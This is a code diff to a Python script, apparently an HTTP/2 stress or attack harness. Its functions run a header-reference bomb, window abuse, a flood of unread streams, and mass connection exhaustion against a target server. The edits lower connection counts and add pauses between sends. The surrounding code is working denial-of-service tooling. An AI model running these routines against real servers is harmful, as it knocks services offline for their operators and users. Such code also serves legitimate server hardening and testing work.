@@ -107,11 +107,12 @@ def reference_bomb(t):
     big = field("x", "y" * 3900, 0x40)
     block = t.get() + number(7, 0x80, 62) * 14
     peers = []
-    while len(peers) < 8:
+    while len(peers) < 4:
         peer = Peer(t.host, t.port, PREFACE + settings((4, 0)) + head(t.get() + big, 1))
         for i in range(1, 1000, 10):
             if not peer.send(b"".join(head(block, nth(j)) for j in range(i, i + 10))):
                 break
+            time.sleep(PAUSE)
         peers.append(peer)
     hold(t, peers)
     return {"connections": len(peers), "refused": sum(p.seen.get(RST, 0) for p in peers)}
@@ -192,6 +193,7 @@ def windows(t, size, connections, streams):
         peer = Peer(t.host, t.port, PREFACE + settings((4, size)))
         for i in range(0, streams, 20):
             peer.send(b"".join(head(get, nth(j)) for j in range(i, i + 20)))
+            time.sleep(2 * PAUSE)
         peers.append(peer)
     hold(t, peers)
     return {"connections": len(peers), "ended": sum(p.closed for p in peers)}
@@ -213,9 +215,9 @@ def deaf(t):
     step = 0
     while t.left() > 0:
         for peer in peers:
-            peer.send(b"".join(head(get, nth(i)) for i in range(step, step + 200)), 0.05)
-        step += 200
-        time.sleep(PAUSE)
+            peer.send(b"".join(head(get, nth(i)) for i in range(step, step + 25)), 0.05)
+        step += 25
+        time.sleep(3 * PAUSE)
     for peer in peers:
         peer.close()
     return result
@@ -255,8 +257,8 @@ def siege(t, count, first, more=None, every=0.1, receive_buffer=0, read=65536, p
         sock.setblocking(False)
         open_ones.append((sock, time.monotonic()))
         result["connections"] += 1
-        if result["connections"] % 20 == 0:
-            time.sleep(0.01)
+        if result["connections"] % 10 == 0:
+            time.sleep(2 * PAUSE)
     while open_ones and t.left() > -patience:
         for one in list(open_ones):
             sock, start = one
